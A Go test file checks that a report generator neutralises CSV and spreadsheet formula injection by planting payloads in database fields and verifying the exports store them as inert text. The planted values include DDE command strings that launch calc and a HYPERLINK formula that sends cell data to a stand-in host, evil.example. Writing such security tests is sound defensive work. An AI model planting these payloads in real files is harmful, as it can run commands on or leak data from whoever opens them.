package reports

import (
	"context"
	"encoding/csv"
	"io/fs"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestCSVFormulaCellsNeutralised plants spreadsheet formulas in every kind of text a
// report table carries (scheme ids, practice codes, quarantine sources and reasons, file
// names, kinds and hashes) and checks that no CSV cell under the reports directory starts
// a formula unless it is a number, and that the workbook holds the same text as text.
func TestCSVFormulaCellsNeutralised(t *testing.T) {
	db := fixtureDB(t)
	planted := map[string]string{
		"scheme":   "=cmd|' /C calc'!A0",
		"practice": "@SUM(1+1)*cmd|' /C calc'!A0",
		"reason":   `=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"source":   "+1+1",
		"file":     "-2+3.csv",
		"kind":     "\t=1+1",
		"sha256":   "\r=1+1",
	}
	renameSchemes(t, db, map[string]string{"S1": planted["scheme"]})
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`UPDATE practice_variation SET practice_code = ? WHERE practice_code = 'P06'`, []any{planted["practice"]}},
		{`UPDATE quarantine SET reason = ?, source = ?`, []any{planted["reason"], planted["source"]}},
		{`UPDATE ingested_files SET path = '/secure/' || ?, kind = ?, sha256 = ? WHERE file_id = 1`, []any{planted["file"], planted["kind"], planted["sha256"]}},
	} {
		if _, err := db.Exec(q.sql, q.args...); err != nil {
			t.Fatal(err)
		}
	}
	out := t.TempDir()
	if _, err := Run(context.Background(), db, testOptions(out)); err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	csvs := 0
	err := filepath.WalkDir(out, func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || filepath.Ext(p) != ".csv" {
			return err
		}
		csvs++
		f, err := os.Open(p)
		if err != nil {
			return err
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", p, err)
		}
		for _, r := range recs {
			for _, c := range r {
				seen[c] = true
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					if _, err := strconv.ParseFloat(c, 64); err != nil {
						t.Errorf("%s: cell %q would run as a formula", filepath.Base(p), c)
					}
				}
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if csvs < 10 {
		t.Errorf("checked %d CSV files", csvs)
	}
	for what, v := range planted {
		if !seen["'"+v] {
			t.Errorf("the planted %s is not in any CSV as text ('%q)", what, v)
		}
	}
	// numbers are untouched: a negative model output stays a number
	if !seen["-0.18"] {
		t.Error("a negative SII (-0.18) is not written as a plain number")
	}

	// The workbook writes strings as strings (shared strings), never as formulas, so the
	// text is kept as it is there: check that no cell holds a formula and the planted
	// texts read back unchanged as strings.
	wb, err := excelize.OpenFile(filepath.Join(out, "2024-Q1", "socrx-2024-Q1.xlsx"))
	if err != nil {
		t.Fatal(err)
	}
	defer wb.Close()
	found := map[string]bool{}
	for _, sh := range wb.GetSheetList() {
		rows, err := wb.GetRows(sh)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rows {
			for j, v := range r {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if f, err := wb.GetCellFormula(sh, cell); err != nil || f != "" {
					t.Errorf("%s!%s holds a formula %q (%v)", sh, cell, f, err)
				}
				for _, p := range planted {
					if v == p {
						found[p] = true
						if typ, _ := wb.GetCellType(sh, cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("%s!%s: planted text stored as cell type %d", sh, cell, typ)
						}
					}
				}
			}
		}
	}
	for what, v := range planted {
		if !found[v] {
			t.Errorf("the planted %s is not in the workbook as text", what)
		}
	}
}
